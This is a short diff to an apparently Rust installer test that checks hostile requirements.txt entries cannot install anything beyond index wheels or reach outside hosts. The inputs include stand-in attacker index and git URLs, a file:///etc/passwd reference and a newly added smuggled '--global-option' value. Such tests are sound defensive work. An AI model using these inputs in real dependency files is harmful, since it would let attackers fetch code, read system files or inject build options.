@@ -249,6 +249,7 @@ async fn nothing_but_wheels_of_the_index_is_installed_and_none_leads_out() {
         "--index-url https://evil.example",
         "-e git+ssh://evil.example/x",
         "file:///etc/passwd",
+        "six ;--global-option=build",
     ] {
         let before = index.asked().len();
         let program = python("seen = 1", &[("requirements.txt", asked)]);
